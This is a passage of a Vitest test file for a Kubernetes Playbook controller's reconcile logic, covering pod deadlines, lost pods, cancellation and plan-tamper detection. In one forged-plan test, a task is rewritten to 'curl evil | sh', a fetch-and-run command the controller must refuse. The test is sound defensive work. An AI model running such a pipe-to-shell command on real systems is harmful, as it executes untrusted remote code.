import { describe, expect, it } from "vitest";
import type { PlaybookStatus } from "../../src/api/playbook.js";
import type { TaskOutcome } from "../../src/api/report.js";
import type { PodView } from "../../src/controller/objects.js";
import { type Decision, decide, type ReconcileInput } from "../../src/controller/playbook/reconcile.js";
import {
  at,
  exitCodeOf,
  playbook,
  pod,
  recordedStatus,
  report,
  SETTINGS,
  SPEC,
  T0,
} from "./controller-fixtures.js";

const succeeded = (condition: PlaybookStatus | null | undefined) =>
  condition?.conditions?.find((c) => c.type === "Succeeded");
const limitExceeded = (status: PlaybookStatus | null | undefined) =>
  status?.conditions?.find((c) => c.type === "LimitExceeded");

function input(partial: Partial<ReconcileInput>): ReconcileInput {
  return { playbook: playbook(), pods: [], now: T0, settings: SETTINGS, ...partial };
}

/** The status a Playbook (of the given spec edits) has after its first pod was created at T0. */
function started(attempts = 1, spec: Record<string, unknown> = {}): PlaybookStatus {
  const first = decide(input({ playbook: playbook(spec) }));
  // The start record as the first status write after the create leaves it (the writer adds the UID).
  return recordedStatus(first, attempts);
}

const task = (name: string, outcome: Partial<TaskOutcome>): TaskOutcome => ({
  name,
  phase: "Succeeded",
  attempts: 1,
  exitCode: 0,
  signal: null,
  startTime: at(1),
  completionTime: at(2),
  ...outcome,
});

const skipped = (name: string): TaskOutcome => ({
  name,
  phase: "Skipped",
  attempts: 0,
  exitCode: null,
  signal: null,
});

/** The report of a run stopped mid-way: build cancelled, test never started. */
const cancelledReport = (buildEnding?: TaskOutcome["ending"]) =>
  report({
    phase: "Cancelled",
    reason: "Cancelled",
    tasks: [
      task("build", { phase: "Cancelled", ...(buildEnding ? { ending: buildEnding } : {}) }),
      skipped("test"),
    ],
  });

/** The first pod, deleted after its runner reported the run cancelled. */
const interruptedPod = (buildEnding?: TaskOutcome["ending"]) =>
  pod(1, {
    phase: "Failed",
    deleting: true,
    terminated: { exitCode: 130, message: cancelledReport(buildEnding) },
  });

describe("a new Playbook", () => {
  it("gets exactly one pod with the remaining ceiling as its deadline", () => {
    const decision = decide(input({}));
    expect(decision.actions).toHaveLength(1);
    const action = decision.actions[0];
    expect(action?.type).toBe("createPod");
    if (action?.type !== "createPod") return;
    expect(action.pod.metadata.name).toBe("nightly-1");
    expect(action.pod.spec.activeDeadlineSeconds).toBe(1800 + 10 + 5);
    expect(action.pod.metadata.ownerReferences[0]).toMatchObject({
      kind: "Playbook",
      uid: "uid-1",
      controller: true,
    });
    // No status write with the create: the start record rides on the next status write (Running,
    // a hold, or START_RECORD_WAIT_MS of pending); `pending` is what the run shows if the create fails.
    expect(decision.status).toBeNull();
    expect(decision.pending).toMatchObject({
      phase: "Pending",
      podName: "nightly-1",
      podAttempts: 1,
      startTime: T0.toISOString(),
      observedGeneration: 1,
      limits: { ceiling: { value: "30m", source: "spec" }, stall: { value: "10m", source: "default" } },
      planDigest: action.planDigest,
    });
    expect(action.planDigest).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(succeeded(decision.pending ?? null)).toMatchObject({
      status: "Unknown",
      reason: "Pending",
      observedGeneration: 1,
    });
    expect(decision.events.map((e) => e.reason)).toEqual(["PodCreated"]);
  });

  it("writes Running when the pod runs, with the start and limits the pod carries", () => {
    const decision = decide(
      input({ playbook: playbook({}, started()), pods: [pod(1, { phase: "Running" })], now: at(1) }),
    );
    expect(decision.actions).toEqual([]);
    expect(decision.status).toMatchObject({
      phase: "Running",
      podName: "nightly-1",
      podAttempts: 1,
      startTime: T0.toISOString(),
      observedGeneration: 1,
      limits: { ceiling: { value: "30m", source: "spec" } },
    });
    expect(succeeded(decision.status)).toMatchObject({ status: "Unknown", reason: "Running" });
  });

  it("tells a run that already shows a status (queued, a refused create) of its pod at once", () => {
    const queued: PlaybookStatus = {
      phase: "Pending",
      conditions: [
        {
          type: "Succeeded",
          status: "Unknown",
          reason: "Queued",
          message: "waiting for a slot",
          lastTransitionTime: at(-60).toISOString(),
        },
      ],
    };
    const decision = decide(input({ playbook: playbook({}, queued) }));
    expect(decision.actions.map((a) => a.type)).toEqual(["createPod"]);
    expect(decision.status).toMatchObject({
      phase: "Pending",
      podName: "nightly-1",
      startTime: T0.toISOString(),
    });
    expect(succeeded(decision.status)).toMatchObject({ reason: "Pending" });
  });

  it("records no new start or plan once a create failed: the retry keeps both", () => {
    const failed: PlaybookStatus = { ...started(), podAttempts: undefined, podName: undefined };
    const retry = decide(input({ playbook: playbook({}, failed), now: at(20) }));
    expect(retry.actions.map((a) => a.type)).toEqual(["createPod"]);
    expect(retry.status).toMatchObject({ startTime: T0.toISOString(), planDigest: started().planDigest });
  });
});

describe("a running pod", () => {
  it("moves the run to Running, keeping lastTransitionTime of the Unknown condition", () => {
    const status = started();
    const decision = decide(input({ playbook: playbook({}, status), pods: [pod(1)], now: at(3) }));
    expect(decision.status?.phase).toBe("Running");
    expect(succeeded(decision.status)).toMatchObject({
      status: "Unknown",
      reason: "Running",
      lastTransitionTime: T0.toISOString(),
    });
    expect(decision.actions).toEqual([]);
  });

  it("writes no status when nothing changed", () => {
    const first = decide(input({ playbook: playbook({}, started()), pods: [pod(1)], now: at(3) }));
    const second = decide(
      input({ playbook: playbook({}, first.status ?? undefined), pods: [pod(1)], now: at(9) }),
    );
    expect(second).toEqual({
      status: null,
      actions: [],
      events: [],
      // Looked at again when the pod should long be gone: ceiling + killGrace + margin + slack.
      requeueAfterMs: (1800 + 10 + 5 + 30 - 9) * 1000,
    } satisfies Decision);
  });

  it("is judged by its runner container when the pod phase lags behind", () => {
    const ended = {
      ...pod(1, {
        phase: "Running",
        terminated: {
          exitCode: 0,
          message: report({
            phase: "Succeeded",
            reason: "Succeeded",
            tasks: [task("build", {}), task("test", {})],
          }),
        },
      }),
    };
    const decision = decide(input({ playbook: playbook({}, started()), pods: [ended], now: at(61) }));
    expect(succeeded(decision.status)?.reason).toBe("Succeeded");
  });

  it("is deleted and the run ends PodDeadlineExceeded when its node did not enforce the deadline", () => {
    const decision = decide(
      input({ playbook: playbook({}, started()), pods: [pod(1)], now: at(1800 + 10 + 5 + 30) }),
    );
    expect(succeeded(decision.status)).toMatchObject({ status: "False", reason: "PodDeadlineExceeded" });
    expect(decision.actions).toEqual([
      { type: "deletePod", name: "nightly-1", gracePeriodSeconds: 0, why: "finished" },
    ]);
  });
});

const reportCases = [
  {
    name: "Succeeded",
    outcome: { phase: "Succeeded", reason: "Succeeded", tasks: [task("build", {}), task("test", {})] },
    condition: { status: "True", reason: "Succeeded" },
    limit: undefined,
    endingTask: undefined,
  },
  {
    name: "TaskFailed",
    outcome: {
      phase: "Failed",
      reason: "TaskFailed",
      tasks: [task("build", { phase: "Failed", exitCode: 2 }), skipped("test")],
    },
    condition: { status: "False", reason: "TaskFailed" },
    limit: undefined,
    endingTask: "build",
  },
  {
    name: "TaskTimeout",
    outcome: {
      phase: "Failed",
      reason: "TaskTimeout",
      tasks: [
        task("build", {
          phase: "TimedOut",
          limit: "TaskTimeout",
          ending: "Killed",
          exitCode: null,
          signal: "SIGKILL",
        }),
        skipped("test"),
      ],
    },
    condition: {
      status: "False",
      reason: "TaskTimeout",
      message:
        "task build exceeded its 10m timeout (spec.tasks[0].timeout); process group killed after 10s grace",
    },
    limit: "TaskTimeout",
    endingTask: "build",
  },
  {
    name: "StallLimit",
    outcome: {
      phase: "Failed",
      reason: "StallLimit",
      tasks: [
        task("build", {}),
        task("test", { phase: "TimedOut", limit: "StallLimit", ending: "Exited", exitCode: 143 }),
      ],
    },
    condition: { status: "False", reason: "StallLimit" },
    limit: "StallLimit",
    endingTask: "test",
  },
  {
    name: "RunCeiling",
    outcome: {
      phase: "Failed",
      reason: "RunCeiling",
      tasks: [task("build", { phase: "TimedOut", limit: "RunCeiling", ending: "Killed" }), skipped("test")],
    },
    condition: { status: "False", reason: "RunCeiling" },
    limit: "RunCeiling",
    endingTask: "build",
  },
] as const;

describe.each(reportCases)("a pod that reported $name", ({ outcome, condition, limit, endingTask }) => {
  const phase = outcome.reason === "Succeeded" ? "Succeeded" : "Failed";
  const ended = pod(1, {
    phase,
    terminated: { exitCode: exitCodeOf(outcome), message: report(outcome as never) },
  });
  const decision = decide(input({ playbook: playbook({}, started()), pods: [ended], now: at(61) }));

  it("settles the Succeeded condition from the report", () => {
    expect(succeeded(decision.status)).toMatchObject({ ...condition, observedGeneration: 1 });
    expect(decision.status?.phase).toBe(outcome.phase);
    expect(decision.status?.tasks?.map((t) => t.name)).toEqual(["build", "test"]);
    expect(decision.status?.endingTask).toBe(endingTask);
    expect(decision.status?.startTime).toBe(T0.toISOString());
  });

  it("sets LimitExceeded only when a limit ended the run", () => {
    if (limit) expect(limitExceeded(decision.status)).toMatchObject({ status: "True", reason: limit });
    else expect(limitExceeded(decision.status)).toBeUndefined();
  });

  it("counts the run once and tells the story in events", () => {
    expect(decision.finished).toMatchObject({ reason: outcome.reason, durationSeconds: 60 });
    expect(decision.finished?.limit).toBe(limit);
    const reasons = decision.events.map((e) => e.reason);
    expect(reasons).toEqual(
      limit ? ["LimitFired", "RunFailed"] : [outcome.reason === "Succeeded" ? "RunSucceeded" : "RunFailed"],
    );
    if (limit === "TaskTimeout") expect(decision.events[0]?.message).toContain("10m (source task)");
  });
});

describe("a pod that never starts", () => {
  const pending = () => ({
    ...pod(1, { phase: "Pending" }),
    status: {
      phase: "Pending",
      conditions: [{ type: "PodScheduled", status: "False", reason: "Unschedulable" }],
    },
  });

  it("says why it waits, then is looked at again when the ceiling and killGrace will have passed", () => {
    const shown = decide(input({ playbook: playbook({}, started()), pods: [pending()], now: at(60) }));
    expect(succeeded(shown.status)?.message).toBe("pod nightly-1 is pending (attempt 1): Unschedulable");
    const decision = decide(
      input({ playbook: playbook({}, shown.status ?? undefined), pods: [pending()], now: at(61) }),
    );
    expect(decision.status).toBeNull();
    expect(decision.requeueAfterMs).toBe((1800 + 10 - 61) * 1000);
  });

  it("ends the run StartTimeout (the pod never started, whichever limit came first) and removes the pod once they passed", () => {
    const decision = decide(input({ playbook: playbook({}, started()), pods: [pending()], now: at(1810) }));
    expect(succeeded(decision.status)).toMatchObject({ status: "False", reason: "StartTimeout" });
    expect(succeeded(decision.status)?.message).toBe(
      "pod nightly-1 (attempt 1) never started: its containers did not all start before the run's 30m ceiling (spec.ceiling) passed, sooner than its 5m start timeout (the default start timeout); Unschedulable",
    );
    expect(limitExceeded(decision.status)).toMatchObject({ reason: "StartTimeout" });
    expect(decision.actions).toEqual([{ type: "deletePod", name: "nightly-1", why: "finished" }]);
  });
});

describe("what the kubelet decided", () => {
  it("names PodDeadlineExceeded when the activeDeadlineSeconds backstop fired", () => {
    const ended = pod(1, {
      phase: "Failed",
      reason: "DeadlineExceeded",
      message: "Pod was active on the node longer than the specified deadline",
      terminated: { exitCode: 130, message: cancelledReport("Killed") },
    });
    const decision = decide(input({ playbook: playbook({}, started()), pods: [ended], now: at(1815) }));
    expect(succeeded(decision.status)).toMatchObject({ status: "False", reason: "PodDeadlineExceeded" });
    expect(limitExceeded(decision.status)).toMatchObject({ status: "True", reason: "PodDeadlineExceeded" });
    expect(decision.status?.phase).toBe("Failed");
    expect(decision.finished?.limit).toBe("PodDeadlineExceeded");
  });

  it.each([
    { when: "a millisecond before the deadline", endMs: -1, reason: "Succeeded" },
    { when: "at the deadline", endMs: 0, reason: "PodDeadlineExceeded" },
  ])(
    "takes the report of a runner that finished $when as $reason when the pod ended DeadlineExceeded",
    ({ endMs, reason }) => {
      // Started at 1s with a 100s deadline: the deadline is at 101s.
      const ended = pod(1, {
        phase: "Failed",
        reason: "DeadlineExceeded",
        message: "Pod was active on the node longer than the specified deadline",
        startedAt: at(1),
        activeDeadlineSeconds: 100,
        // Exit 0: it ended on its own after its report (a killed runner is not trusted: report-trust.test.ts).
        terminated: {
          exitCode: 0,
          message: report({
            phase: "Succeeded",
            reason: "Succeeded",
            completionTime: new Date(at(101).getTime() + endMs),
            tasks: [task("build", {}), task("test", {})],
          }),
        },
      });
      const decision = decide(input({ playbook: playbook({}, started()), pods: [ended], now: at(102) }));
      expect(succeeded(decision.status)).toMatchObject({ reason });
    },
  );

  it("waits a moment before calling a pod that ended without a report RunnerLost", () => {
    const ended = pod(1, {
      phase: "Failed",
      terminated: { exitCode: 137, reason: "Error", finishedAt: at(20).toISOString() },
    });
    const decision = decide(input({ playbook: playbook({}, started()), pods: [ended], now: at(21) }));
    expect(decision.status).toBeNull();
    expect(decision.requeueAfterMs).toBe(3000);
    expect(decision.finished).toBeUndefined();
  });

  it("names RunnerLost with what the kubelet said when no valid report came", () => {
    const ended = pod(1, {
      phase: "Failed",
      terminated: { exitCode: 137, reason: "OOMKilled", message: "Killed\n" },
    });
    const decision = decide(input({ playbook: playbook({}, started()), pods: [ended], now: at(20) }));
    const condition = succeeded(decision.status);
    expect(condition).toMatchObject({ status: "False", reason: "RunnerLost" });
    expect(condition?.message).toContain("OOMKilled");
    expect(condition?.message).toContain("exit code 137");
    expect(limitExceeded(decision.status)).toBeUndefined();
  });
});

describe("a lost pod", () => {
  const lostCases = [
    { name: "deleted (gone from the cache and the API server)", pods: [] },
    {
      name: "evicted",
      pods: [pod(1, { phase: "Failed", reason: "Evicted", message: "The node was low on memory" })],
    },
    {
      name: "gone with its node (PodGC's DisruptionTarget)",
      pods: [
        {
          ...pod(1, { phase: "Failed" }),
          status: {
            phase: "Failed",
            conditions: [
              {
                type: "DisruptionTarget",
                status: "True",
                reason: "DeletionByPodGC",
                message: "PodGC: node no longer exists",
              },
            ],
          },
        },
      ],
    },
    {
      name: "deleted and killed before it could report",
      pods: [pod(1, { phase: "Failed", deleting: true, terminated: { exitCode: 137, reason: "Error" } })],
    },
    {
      name: "interrupted by a deletion that was not a cancel",
      pods: [interruptedPod()],
    },
  ];

  it.each(lostCases)(
    "is re-created when $name, with the ceiling still counted from the run's start",
    ({ pods }) => {
      const decision = decide(input({ playbook: playbook({}, started()), pods, now: at(600) }));
      const action = decision.actions.find((a) => a.type === "createPod");
      expect(action?.type === "createPod" && action.pod.metadata.name).toBe("nightly-2");
      if (action?.type !== "createPod") return;
      expect(action.pod.spec.activeDeadlineSeconds).toBe(1200 + 10 + 5);
      expect(action.pod.metadata.annotations["playbook.dev/run-start-time"]).toBe(T0.toISOString());
      expect(decision.status).toMatchObject({
        podAttempts: 2,
        podName: "nightly-2",
        startTime: T0.toISOString(),
      });
      expect(decision.events.map((e) => e.reason)).toEqual(["PodLost", "PodCreated"]);
      expect(decision.finished).toBeUndefined();
    },
  );

  it("is not re-created once the ceiling passed: the run ends RunCeiling", () => {
    const decision = decide(input({ playbook: playbook({}, started()), pods: [], now: at(1800) }));
    expect(decision.actions).toEqual([]);
    expect(succeeded(decision.status)).toMatchObject({ status: "False", reason: "RunCeiling" });
  });

  it("ends the run PodLost once backoffLimit re-creations are used up", () => {
    const decision = decide(
      input({
        playbook: playbook({ backoffLimit: 2 }, started(3, { backoffLimit: 2 })),
        pods: [],
        now: at(600),
      }),
    );
    expect(decision.actions).toEqual([]);
    expect(succeeded(decision.status)).toMatchObject({ status: "False", reason: "PodLost" });
    expect(decision.finished?.reason).toBe("PodLost");
  });
});

describe("a started run", () => {
  it("is decided against its pod's plan, not a later edit of the spec", () => {
    const edited = playbook(
      { ceiling: "48h", tasks: [...SPEC.tasks, { name: "deploy", run: "make deploy" }] },
      started(),
      2,
    );
    const running = decide(input({ playbook: edited, pods: [pod(1)], now: at(30) }));
    expect(running.actions).toEqual([]);
    expect(running.status?.phase).toBe("Running");

    const reported = pod(1, {
      phase: "Succeeded",
      terminated: {
        exitCode: 0,
        message: report({
          phase: "Succeeded",
          reason: "Succeeded",
          tasks: [task("build", {}), task("test", {})],
        }),
      },
    });
    const decision = decide(input({ playbook: edited, pods: [reported], now: at(60) }));
    expect(succeeded(decision.status)).toMatchObject({ status: "True", reason: "Succeeded" });
    expect(decision.status?.tasks?.map((t) => t.name)).toEqual(["build", "test"]);
    expect(decision.status?.limits?.ceiling).toEqual({ value: "30m", source: "spec" });
    // The edit (generation 2) was not applied: observedGeneration stays at the plan's.
    expect(decision.status?.observedGeneration).toBe(1);
    expect(succeeded(decision.status)?.observedGeneration).toBe(1);
  });

  it("claims the generation of a cancel, the one edit a started run applies", () => {
    const decision = decide(
      input({ playbook: playbook({ cancel: true }, started(), 2), pods: [pod(1)], now: at(30) }),
    );
    expect(decision.status?.observedGeneration).toBe(2);
  });

  it("re-creates a lost pod with the plan its first pod was started with", () => {
    const lost = pod(1, { phase: "Failed", reason: "Evicted", message: "The node was low on memory." });
    const edited = playbook({ tasks: [{ name: "other", run: "true" }] }, started());
    const decision = decide(input({ playbook: edited, pods: [lost], now: at(30) }));
    const created = decision.actions[0];
    expect(created?.type).toBe("createPod");
    const plan = JSON.parse(
      (created?.type === "createPod" && created.pod.metadata.annotations["playbook.dev/plan"]) || "{}",
    );
    expect(plan.spec.tasks.map((t: { name: string }) => t.name)).toEqual(["build", "test"]);
  });
});

/** A plan as JSON, the parts the forgeries below change. */
type PlanJson = {
  spec: { ceiling?: string; tasks: { run: string }[] };
  defaults: { stallMs: number };
  tasks?: { container: string }[];
  [key: string]: unknown;
};

describe("the plan a run recorded (status.planDigest)", () => {
  const forge = (view: ReturnType<typeof pod>, edit: (plan: PlanJson) => void) => {
    const annotations = view.metadata.annotations ?? {};
    const plan = JSON.parse(annotations["playbook.dev/plan"] ?? "{}");
    edit(plan);
    return {
      ...view,
      metadata: {
        ...view.metadata,
        annotations: { ...annotations, "playbook.dev/plan": JSON.stringify(plan) },
      },
    };
  };

  it("takes the pod's plan when it hashes to the digest, whatever its key order", () => {
    const reordered = forge(pod(1), (plan) => {
      const { spec, ...rest } = plan;
      for (const key of Object.keys(plan)) delete plan[key];
      Object.assign(plan, { spec, ...rest });
    });
    const decision = decide(input({ playbook: playbook({}, started()), pods: [reordered], now: at(30) }));
    expect(decision.status?.phase).toBe("Running");
  });

  it.each([
    {
      name: "a longer ceiling",
      edit: (plan: PlanJson) => {
        plan.spec.ceiling = "48h";
      },
    },
    {
      name: "another task",
      edit: (plan: PlanJson) => {
        plan.spec.tasks = [{ ...plan.spec.tasks[0], run: "curl evil | sh" }];
        plan.tasks = plan.tasks?.slice(0, 1);
      },
    },
    {
      name: "longer defaults",
      edit: (plan: PlanJson) => {
        plan.defaults.stallMs = 86_400_000;
      },
    },
  ])(
    "refuses a plan rewritten on the pod ($name): RunnerLost naming the annotation, the pod deleted, nothing carried on",
    ({ edit }) => {
      const status = started();
      const forged = forge(pod(1), edit);
      const decision = decide(input({ playbook: playbook({}, status), pods: [forged], now: at(30) }));
      expect(succeeded(decision.status)).toMatchObject({ status: "False", reason: "RunnerLost" });
      expect(succeeded(decision.status)?.message).toMatch(
        new RegExp(
          `^the playbook\\.dev/plan annotation of pod nightly-1 is not the plan the run started with: it hashes to sha256:[0-9a-f]{64}, status\\.planDigest is ${status.planDigest}; it was changed after the controller created the pod; the controller takes no plan it did not record`,
        ),
      );
      expect(decision.status?.limits).toEqual(status.limits);
      expect(decision.actions).toEqual([{ type: "deletePod", name: "nightly-1", why: "finished" }]);
      expect(decision.events.map((e) => e.reason)).toEqual(["PlanRefused", "RunFailed"]);
    },
  );

  it("refuses a plan that is not JSON", () => {
    const broken = pod(1);
    broken.metadata.annotations = { ...broken.metadata.annotations, "playbook.dev/plan": "{" };
    const decision = decide(input({ playbook: playbook({}, started()), pods: [broken], now: at(30) }));
    expect(succeeded(decision.status)?.message).toMatch(
      /^the playbook\.dev\/plan annotation of pod nightly-1 is not JSON/,
    );
  });

  describe("a pod of a run that recorded no plan (the controller stopped between the create and the start record)", () => {
    const created = (view: ReturnType<typeof pod>, when: Date) => ({
      ...view,
      metadata: { ...view.metadata, creationTimestamp: when.toISOString() },
    });

    it("is adopted when its plan is the one the spec gives, and the plan goes on record", () => {
      const decision = decide(input({ pods: [created(pod(1), at(0))], now: at(5) }));
      expect(decision.actions).toEqual([]);
      expect(decision.status).toMatchObject({
        phase: "Running",
        startTime: T0.toISOString(),
        podAttempts: 1,
        planDigest: started().planDigest,
      });
    });

    it.each([
      {
        name: "a plan the spec does not give",
        pods: [created(pod(1, { spec: { ...SPEC, ceiling: "48h" } }), at(0))],
        says: /and its playbook\.dev\/plan annotation is not the plan the spec gives: it hashes to sha256:[0-9a-f]{64}, the spec and the namespace's rules give sha256:/,
      },
      {
        name: "a start after the pod's creation (a longer ceiling)",
        pods: [created(pod(1, { runStart: at(600) }), at(0))],
        says: /and its plan's runStartTime 2026-01-01T00:10:00\.000Z is after the pod's creation 2026-01-01T00:00:00\.000Z/,
      },
    ])("is refused with $name: RunnerLost, the pod deleted", ({ pods, says }) => {
      const decision = decide(input({ pods, now: at(5) }));
      expect(succeeded(decision.status)).toMatchObject({ status: "False", reason: "RunnerLost" });
      expect(succeeded(decision.status)?.message).toMatch(
        /^pod nightly-1 exists but the run recorded no plan \(status\.planDigest is not set\)/,
      );
      expect(succeeded(decision.status)?.message).toMatch(says);
      expect(decision.actions).toEqual([{ type: "deletePod", name: "nightly-1", why: "finished" }]);
    });
  });

  it("counts a first pod lost at once as an attempt: no fresh start, no fresh ceiling", () => {
    const decision = decide(
      input({
        playbook: playbook({ backoffLimit: 0 }, started(1, { backoffLimit: 0 })),
        pods: [],
        now: at(2),
      }),
    );
    expect(decision.actions).toEqual([]);
    expect(succeeded(decision.status)).toMatchObject({ status: "False", reason: "PodLost" });
    expect(decision.status?.startTime).toBe(T0.toISOString());
    const again = decide(input({ playbook: playbook({}, started()), pods: [], now: at(2) }));
    expect(again.status).toMatchObject({ podAttempts: 2, podName: "nightly-2", startTime: T0.toISOString() });
    expect(again.events.map((e) => e.reason)).toEqual(["PodLost", "PodCreated"]);
  });

  it("refuses to rebuild a plan when the spec no longer gives the recorded one", () => {
    const edited = playbook({ tasks: [{ name: "other", run: "true" }] }, started());
    const decision = decide(input({ playbook: edited, pods: [], now: at(30) }));
    expect(decision.actions).toEqual([]);
    expect(succeeded(decision.status)).toMatchObject({ status: "False", reason: "InvalidSpec" });
    expect(succeeded(decision.status)?.message).toMatch(
      /^the run's plan \(status\.planDigest sha256:[0-9a-f]{64}\) cannot be rebuilt for its next pod: the spec and status now give sha256:/,
    );
  });
});

describe("a plan too large for its pod", () => {
  it("ends InvalidSpec before any pod is created, saying why", () => {
    const decision = decide(
      input({ playbook: playbook({ tasks: [{ name: "a", run: "\u0001".repeat(60_000) }] }) }),
    );
    expect(decision.actions).toEqual([]);
    expect(succeeded(decision.status)).toMatchObject({ status: "False", reason: "InvalidSpec" });
    expect(succeeded(decision.status)?.message).toMatch(
      /the run's plan is \d+ bytes as JSON, more than the \d+ a pod annotation can hold/,
    );
  });
});

/** The cancelled run's pod, failed by its node at the lowered deadline (30s), with what it ended with. */
const stoppedAtLoweredDeadline = (terminated?: NonNullable<Parameters<typeof pod>[1]>["terminated"]) =>
  pod(1, {
    phase: "Failed",
    reason: "DeadlineExceeded",
    startedAt: at(1),
    activeDeadlineSeconds: 30,
    ...(terminated ? { terminated } : {}),
  });

describe("spec.cancel", () => {
  const cancelled = () => playbook({ cancel: true }, started());
  const startedPod = (activeDeadlineSeconds: number) => pod(1, { startedAt: at(1), activeDeadlineSeconds });

  it("settles Cancelled, with no new pod, when the cancelled run's pod is evicted", () => {
    const evicted = pod(1, { phase: "Failed", reason: "Evicted", message: "The node was low on memory." });
    const decision = decide(input({ playbook: cancelled(), pods: [evicted], now: at(30) }));
    expect(decision.actions.filter((a) => a.type === "createPod")).toEqual([]);
    expect(decision.status?.phase).toBe("Cancelled");
    expect(succeeded(decision.status)?.reason).toBe("Cancelled");
    expect(succeeded(decision.status)?.message).toContain(
      "pod nightly-1 ended without a valid runner report",
    );
    expect(decision.status?.podAttempts).toBe(1);
  });

  it("lowers a started pod's activeDeadlineSeconds to now, so the kubelet stops it and keeps its logs", () => {
    const decision = decide(
      input({ playbook: cancelled(), pods: [startedPod(1800 + 10 + 5)], now: at(30.5) }),
    );
    expect(decision.actions).toEqual([
      { type: "lowerDeadline", name: "nightly-1", activeDeadlineSeconds: 30 },
    ]);
    expect(decision.events.map((e) => e.reason)).toEqual(["Cancelling"]);
    // The grace the user set, not the pod's termination grace period (killGrace plus a margin).
    expect(decision.events[0]?.message).toContain("killGrace 10s (the default kill grace)");
    expect(decision.events[0]?.message).not.toContain("15s");
    expect(decision.status?.phase).toBe("Running");
    expect(decision.finished).toBeUndefined();
  });

  it("lowers it once, then waits for the kubelet", () => {
    const decision = decide(input({ playbook: cancelled(), pods: [startedPod(30)], now: at(32) }));
    expect(decision.actions).toEqual([]);
    expect(decision.requeueAfterMs).toBeGreaterThan(0);
  });

  it("deletes the pod when its node did not stop it at the lowered deadline", () => {
    const decision = decide(input({ playbook: cancelled(), pods: [startedPod(30)], now: at(31 + 15 + 31) }));
    expect(decision.actions).toEqual([
      { type: "deletePod", name: "nightly-1", gracePeriodSeconds: 15, why: "cancel" },
    ]);
  });

  it("waits for the runner's report after the kubelet marked the pod DeadlineExceeded", () => {
    const stopping = stoppedAtLoweredDeadline();
    const decision = decide(input({ playbook: cancelled(), pods: [stopping], now: at(32) }));
    expect(decision.status).toBeNull();
    expect(decision.actions).toEqual([]);
  });

  it("settles Cancelled from the runner's report of a pod stopped at its lowered deadline, keeping the pod", () => {
    const stopped = stoppedAtLoweredDeadline({ exitCode: 130, message: cancelledReport("Exited") });
    const decision = decide(input({ playbook: cancelled(), pods: [stopped], now: at(33) }));
    expect(succeeded(decision.status)).toMatchObject({ status: "False", reason: "Cancelled" });
    expect(limitExceeded(decision.status)).toBeUndefined();
    expect(decision.status?.tasks?.[0]).toMatchObject({
      name: "build",
      phase: "Cancelled",
      ending: "Exited",
    });
    expect(decision.actions).toEqual([]);
    // A cancel is what someone asked for: a Normal event, not a Warning RunFailed.
    expect(decision.events.map((e) => [e.type, e.reason])).toEqual([["Normal", "RunCancelled"]]);
  });

  it("settles Cancelled itself when the stopped runner gave no report", () => {
    const stopped = stoppedAtLoweredDeadline({ exitCode: 137, reason: "Error" });
    const decision = decide(input({ playbook: cancelled(), pods: [stopped], now: at(33) }));
    expect(succeeded(decision.status)).toMatchObject({ status: "False", reason: "Cancelled" });
    expect(succeeded(decision.status)?.message).toContain("the run was cancelled (spec.cancel)");
  });

  it.each([
    {
      name: "lowers the deadline of a pod bound to a node that has not started it to 1s",
      deadline: 1815,
      now: 30,
      actions: [{ type: "lowerDeadline", name: "nightly-1", activeDeadlineSeconds: 1 }],
    },
    { name: "then waits for its node", deadline: 1, now: 31, actions: [] },
    {
      name: "and deletes it when the ceiling passed without its node starting it",
      deadline: 1,
      now: 1800 + 10,
      actions: [{ type: "deletePod", name: "nightly-1", gracePeriodSeconds: 15, why: "cancel" }],
    },
  ])("$name", ({ deadline, now, actions }) => {
    const bound = pod(1, { phase: "Pending", nodeName: "node-1", activeDeadlineSeconds: deadline });
    const decision = decide(input({ playbook: cancelled(), pods: [bound], now: at(now) }));
    expect(decision.actions).toEqual(actions);
    expect(decision.finished).toBeUndefined();
  });

  it("deletes a pod no node took yet with a grace period longer than killGrace", () => {
    const decision = decide(
      input({ playbook: playbook({ cancel: true }, started()), pods: [pod(1)], now: at(30) }),
    );
    expect(decision.actions).toEqual([
      { type: "deletePod", name: "nightly-1", gracePeriodSeconds: 15, why: "cancel" },
    ]);
    expect(decision.finished).toBeUndefined();
  });

  it("waits while the pod is terminating", () => {
    const decision = decide(
      input({
        playbook: playbook({ cancel: true }, started()),
        pods: [pod(1, { deleting: true })],
        now: at(20),
      }),
    );
    expect(decision.actions).toEqual([]);
    expect(decision.finished).toBeUndefined();
    // Looked at again when the wait for it ends (deleted at 1s: 30s later), not only on a change.
    expect(decision.requeueAfterMs).toBe(11_000);
  });

  /** The pod deleted at `requested` with `grace` seconds, held there (its node gone, a finalizer). */
  const terminating = (requested: number, grace: number, nodeName?: string) => {
    const stuck = pod(1, { startedAt: at(1), activeDeadlineSeconds: 30, ...(nodeName ? { nodeName } : {}) });
    stuck.metadata = {
      ...stuck.metadata,
      deletionTimestamp: at(requested + grace).toISOString(),
      deletionGracePeriodSeconds: grace,
      finalizers: ["example.com/hold"],
    };
    return stuck;
  };

  it.each([
    // The cancel's own deletion: killGrace 10s plus the 5s margin, then 30s for the node.
    { name: "a pod on a node that is gone", grace: 15, nodeName: "node-1", giveUp: 77 + 15 + 30 },
    // The API server removes an unscheduled pod at once (grace 0): only the 30s are waited.
    { name: "a pod no node took", grace: 0, nodeName: undefined, giveUp: 77 + 30 },
    // Someone else's deletion with a long grace: the runner still stops within killGrace.
    { name: "a pod deleted with a longer grace", grace: 3600, nodeName: "node-1", giveUp: 77 + 15 + 30 },
  ])(
    "waits for $name to go until its grace and a margin passed, then settles Cancelled naming it",
    ({ grace, nodeName, giveUp }) => {
      const stuck = terminating(77, grace, nodeName);
      const waiting = decide(input({ playbook: cancelled(), pods: [stuck], now: at(giveUp - 1) }));
      expect(waiting.finished).toBeUndefined();
      expect(waiting.actions).toEqual([]);
      expect(waiting.requeueAfterMs).toBe(1000);

      const decision = decide(input({ playbook: cancelled(), pods: [stuck], now: at(giveUp) }));
      expect(succeeded(decision.status)).toMatchObject({ status: "False", reason: "Cancelled" });
      expect(decision.status?.phase).toBe("Cancelled");
      expect(decision.status?.podName).toBe("nightly-1");
      expect(decision.finished?.reason).toBe("Cancelled");
      expect(decision.actions).toEqual([]);
      expect(succeeded(decision.status)?.message).toBe(
        `the run was cancelled (spec.cancel); pod nightly-1 did not end in time: it was still terminating ${giveUp - 77}s after its deletion was requested (killGrace 10s (the default kill grace), a margin for the report and 30s for its node; finalizers example.com/hold, node ${nodeName ?? "none"}), so the run ended without the runner's report`,
      );
      expect(decision.events.map((e) => [e.type, e.reason])).toEqual([["Normal", "RunCancelled"]]);
    },
